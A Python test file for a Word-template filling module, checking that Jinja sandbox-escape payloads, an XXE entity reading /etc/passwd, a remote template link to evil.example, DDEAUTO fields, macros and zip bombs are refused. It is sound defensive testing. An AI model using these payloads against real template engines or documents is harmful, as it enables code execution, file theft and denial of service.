"""Word templates of other people's making: what works, what is refused, what attacks come to."""

from __future__ import annotations

import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from io import BytesIO

import pytest
from docx import Document
from jinja2.exceptions import SecurityError

from tinhgon.foundation.documents.api import (
    Align,
    Beside,
    Column,
    DocumentKind,
    Each,
    Line,
    Part,
    Rule,
    Space,
    Table,
    TemplateFails,
    TemplateRefused,
    When,
    check_template,
    fill_in,
    plain,
    said,
    sample,
    set_pdf,
    word_template,
)
from tinhgon.foundation.documents.sandbox import PlainEnvironment

pytestmark = pytest.mark.on_sqlite


@dataclass(frozen=True, slots=True)
class Row:
    code: str = said("ma", "Code")
    lines: tuple[str, ...] = said("dong", "Lines")


@dataclass(frozen=True, slots=True)
class Letter:
    subject: str = said("trich_yeu", "Subject")
    is_urgent: bool = said("khan", "Urgent")
    bases: tuple[str, ...] = said("can_cu", "Bases")
    rows: tuple[Row, ...] = said("thu_tuc", "Procedures")


LAYOUT = (
    Part(
        (
            Beside(
                left=(Line("CƠ QUAN"), Rule(30)), right=(Each("c in can_cu", (Line("{{ c }}"),)),)
            ),
            Line("{{ trich_yeu | upper }}", bold=True, align=Align.CENTRE),
            When("khan", (Line("KHẨN"),), (Line("thường"),)),
            Table(
                (Column("Mã", "{{ t.ma }}", 10), Column("Dòng", "{{ t.ma }}", 20)),
                each="t in thu_tuc",
            ),
            Each("t in thu_tuc", (Each("d in t.dong", (Line("{{ d }}", lead="–"),)),)),
            Space(5),
        )
    ),
    Part((Line("PHỤ LỤC"),), landscape=True),
)
KIND = DocumentKind("thu", "Letter", "", Letter, LAYOUT, lambda by, agency: None)
HOSTILE = (
    '<w:p/> & </w:t> {{ trich_yeu }} {% for %} {{"a".__class__}} #panic("x") $x$ '
    "\x07\x00 \ud800 \uf0b7"
)
LETTER = Letter(
    "Về việc", True, ("Luật A", "Luật B"), (Row("1.1", ("một", "hai")), Row("2.2", ()))
)  # a field


def made(*paragraphs: str, table: tuple[str, ...] = ()) -> bytes:
    word = Document()
    for text in paragraphs:
        word.add_paragraph(text)
    if table:
        grid = word.add_table(rows=0, cols=2)
        for text in table:
            grid.add_row().cells[0].text = text
    stream = BytesIO()
    word.save(stream)
    return stream.getvalue()


def changed(file: bytes, change: Callable[[str, bytes], bytes], **more: bytes) -> bytes:
    stream = BytesIO()
    with zipfile.ZipFile(BytesIO(file)) as before, zipfile.ZipFile(stream, "w", 8) as after:
        for name in before.namelist():
            after.writestr(name, change(name, before.read(name)))
        for name, body in more.items():
            after.writestr(name.replace("__", "/"), body)
    return stream.getvalue()


def words(file: bytes) -> str:
    word = Document(BytesIO(file))
    cells = [cell.text for table in word.tables for row in table.rows for cell in row.cells]
    return "\n".join([*(each.text for each in word.paragraphs), *cells])


def sentences(file: bytes) -> list[str]:
    with pytest.raises(TemplateRefused) as caught:
        check_template(file, KIND)
    return [
        problem.message % problem.params if problem.params else problem.message
        for problem in caught.value.problems
    ]


def test_the_default_template_says_all_and_passes_its_own_check() -> None:
    template = word_template(LAYOUT)
    assert check_template(template, KIND).unused == ()
    text = words(fill_in(template, plain(LETTER)))
    for part in ("VỀ VIỆC", "KHẨN", "Luật A", "– một", "– hai", "PHỤ LỤC", "1.1", "2.2"):
        assert part in text, part
    assert "thường" not in text
    assert "{" not in text


def test_nothing_in_the_lists_is_no_error() -> None:
    empty = Letter("x", False, (), ())  # a field
    assert "thường" in words(fill_in(word_template(LAYOUT), plain(empty)))
    assert set_pdf(LAYOUT, plain(empty), title="x").startswith(b"%PDF-")


def test_what_people_typed_is_never_markup_and_never_a_template() -> None:
    hostile = Letter(HOSTILE, True, (HOSTILE,), (Row(HOSTILE, (HOSTILE,)),))  # a field
    text = words(fill_in(word_template(LAYOUT), plain(hostile)))
    assert '<w:p/> & </w:t> {{ trich_yeu }} {% for %} {{"a".__class__}}' in text
    assert "\x07" not in text
    assert "•" in text
    assert set_pdf(LAYOUT, plain(hostile), title=HOSTILE).startswith(b"%PDF-")


def test_a_sign_no_font_has_is_no_failure() -> None:
    strange = Letter("漢字 🙂 ﷽", True, (), ())  # a field
    assert set_pdf(LAYOUT, plain(strange), title="漢").startswith(b"%PDF-")


def test_a_template_of_an_authority() -> None:
    own = made(
        "Mẫu của Bộ: {{ trich_yeu }}",
        "{%p for t in thu_tuc %}",
        "Thủ tục {{ t.ma }}",
        "{%p endfor %}",
        table=("{%tr for c in can_cu %}", "{{ c }}", "{%tr endfor %}"),
    )
    assert check_template(own, KIND).unused == ("khan",)
    text = words(fill_in(own, plain(LETTER)))
    assert "Mẫu của Bộ: Về việc\nThủ tục 1.1\nThủ tục 2.2\n" in text
    assert "Luật A" in text


def test_a_tag_that_word_divided_into_runs_is_one_tag() -> None:
    word = Document()
    paragraph = word.add_paragraph("{{ tri")
    paragraph.add_run("ch_y").bold = True
    paragraph.add_run("eu }}")
    stream = BytesIO()
    word.save(stream)
    assert "khan" in check_template(stream.getvalue(), KIND).unused
    assert "Về việc" in words(fill_in(stream.getvalue(), plain(LETTER)))


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("{{ trich_yeo }}", "“trich_yeo” is no placeholder here. There is: trich_yeu."),
        ("{% for t in thu_tuc %}{{ t.ten }}{% endfor %}", "“t.ten” is no placeholder here."),
        ("{{ thu_tuc }}", "“thu_tuc” is a list or a group"),
        ("{% for x in trich_yeu %}{% endfor %}", "“trich_yeu” is no list"),
        ("{{ trich_yeu", "A tag is not closed"),
        ("{{ trich_yeu %}", "A tag is not closed"),
        ("trich_yeu }}", "A tag is not closed"),
        ("{% for t in thu_tuc %}", "The tags cannot be read"),
        ("{% if khan %}{% endfor %}", "The tags cannot be read"),
        ("không có gì", "The file holds no placeholder"),
    ],
)  # fmt: skip
def test_mistakes_are_named(text: str, told: str) -> None:
    (sentence,) = sentences(made(text))
    assert told in sentence


def test_all_mistakes_are_named_at_once() -> None:
    assert len(sentences(made("{{ a }}", "{{ b }}", "{{ trich_yeu }}", "{{ a }}"))) == 2


@pytest.mark.parametrize(
    "attack",
    [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ trich_yeu.__class__ }}",
        "{{ trich_yeu['__class__'] }}",
        "{{ trich_yeu.format('x') }}",
        "{{ trich_yeu|attr('__class__') }}",
        "{{ can_cu|map(attribute='__class__') }}",
        "{{ trich_yeu|safe }}",
        "{% autoescape false %}{{ trich_yeu }}{% endautoescape %}",
        "{{ self.__init__.__globals__ }}",
        "{{ self }}",
        "{{ config }}",
        "{{ range(1000000000) }}",
        "{% for a in range(9999999) %}x{% endfor %}",
        "{{ 'a' * 1000000000 }}",
        "{{ 9 ** 999999999 }}",
        "{{ lipsum() }}",
        "{{ cycler.__init__ }}",
        "{% set x = thu_tuc %}{{ x }}",
        "{% include '/etc/passwd' %}",
        "{% import 'os' as os %}",
        "{% extends 'x' %}",
        "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
        "{% for t in thu_tuc recursive %}{{ loop(thu_tuc) }}{% endfor %}",
        "{% for a in can_cu %}{% for b in can_cu %}x{% endfor %}{% endfor %}",
        "{% for t in thu_tuc %}{% for u in thu_tuc %}x{% endfor %}{% endfor %}",
        "{% for t in thu_tuc if t.ma %}x{% endfor %}",
        "{% call trich_yeu() %}x{% endcall %}",
        "{% filter upper %}{{ trich_yeu }}{% endfilter %}",
        "{{ trich_yeu ~ trich_yeu }}",
        "{{ [trich_yeu] }}",
        "{{ trich_yeu if khan else can_cu }}",
        "{{ loop.cycle('a') }}",
        "{% for t in thu_tuc %}{{ loop.cycle }}{% endfor %}",
        "{% for t in thu_tuc %}{{ loop.__init__ }}{% endfor %}",
    ],
)
def test_attacks_are_refused_when_they_come_in(attack: str) -> None:
    assert sentences(made("{{ trich_yeu }}", attack))


def test_a_list_may_not_be_repeated_over_and_over() -> None:
    again = "{% for t in thu_tuc %}x{% endfor %}"
    assert "more than 12 times" in sentences(made(*[again] * 13))[0]
    check_template(made(*[again] * 12), KIND)


@pytest.mark.parametrize(
    "attack",
    [
        "{{ trich_yeu.__class__ }}",
        "{{ can_cu.append(1) }}",
        "{{ trich_yeu.format('x') }}",
        "{{ thu_tuc[0].keys }}",
        "{{ can_cu[0] }}",
        "{{ self.__class__ }}",
        "{% for t in thu_tuc %}{{ loop.__class__ }}{% endfor %}",
        "{{ range(3) }}",
        "{{ trich_yeu() }}",
    ],
)
def test_the_second_wall_holds_what_the_first_let_through(attack: str) -> None:
    """A template taken in otherwise than through the check fails; it gets hold of nothing."""
    with pytest.raises(TemplateFails):
        fill_in(made(attack), plain(LETTER))


def test_nothing_but_two_filters_and_no_global_name() -> None:
    environment = PlainEnvironment(autoescape=True)
    assert environment.globals == {}
    assert set(environment.filters) == {"upper", "lower"}
    with pytest.raises(SecurityError):
        environment.call(None, print, "x")


def test_files_that_reach_outside_are_refused() -> None:
    good = made("{{ trich_yeu }}")

    def linked(name: str, body: bytes) -> bytes:
        link = (
            b'<Relationship Id="rId99" Type="http://x/relationships/attachedTemplate"'
            b' Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
        )
        is_rels = name == "word/_rels/document.xml.rels"
        return body.replace(b"</Relationships>", link) if is_rels else body

    def field(name: str, body: bytes) -> bytes:
        codes = b"".join(
            b"<w:r><w:instrText>" + code + b"</w:instrText></w:r>" for code in (b" DDE", b"AUTO x")
        )
        run = b"<w:p>" + codes + b"</w:p><w:sectPr"
        return body.replace(b"<w:sectPr", run, 1) if name == "word/document.xml" else body

    def entity(name: str, body: bytes) -> bytes:
        doctype = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        is_text = name == "word/document.xml"
        return doctype + body[body.index(b"?>") + 2 :] if is_text else body

    def same(name: str, body: bytes) -> bytes:
        return body

    assert "loads something from elsewhere" in sentences(changed(good, linked))[0]
    assert "a field that loads other files (DDEAUTO)" in sentences(changed(good, field))[0]
    assert "damaged" in sentences(changed(good, entity))[0]
    assert "macros" in sentences(changed(good, same, **{"word__vbaProject.bin": b"x"}))[0]


def test_what_is_no_word_file_or_too_large_is_refused() -> None:
    assert "damaged" in sentences(b"PK\x03\x04 no")[0]
    assert "damaged" in sentences(b"")[0]
    assert "at most 2 MB" in sentences(b"x" * 3_000_000)[0]
    good = made("{{ trich_yeu }}")

    def same(name: str, body: bytes) -> bytes:
        return body

    bomb = changed(good, same, **{"word__media__x.png": b"\0" * 20_000_000})
    assert len(bomb) < 100_000
    assert "at most 16 MB" in sentences(bomb)[0]

    def wordy(name: str, body: bytes) -> bytes:
        filler = b"<!--" + b"x" * 4_000_000 + b"--></w:body>"
        return body.replace(b"</w:body>", filler) if name == "word/document.xml" else body

    assert "at most 3 MB" in sentences(changed(good, wordy))[0]


def test_tags_that_cross_paragraphs_are_told_with_what_to_do() -> None:
    crossed = made(table=("{% for c in can_cu %}{{ c }}", "{% endfor %}"))
    word = Document(BytesIO(crossed))
    word.add_paragraph("{% if khan %}")
    stream = BytesIO()
    word.save(stream)
    assert "The tags cannot be read" in sentences(stream.getvalue())[0]
    one = made("{{ trich_yeu }}", table=("{% if khan %}", "x"))
    two = Document(BytesIO(one))
    two.add_paragraph("{% endif %}")
    stream = BytesIO()
    two.save(stream)
    assert "{%tr … %}" in sentences(stream.getvalue())[0]


def test_a_sample_says_every_name() -> None:
    told = sample(KIND.placeholders)
    assert told["trich_yeu"] == "«trich_yeu»"
    assert told["can_cu"] == ["«can_cu 1»", "«can_cu 2»"]
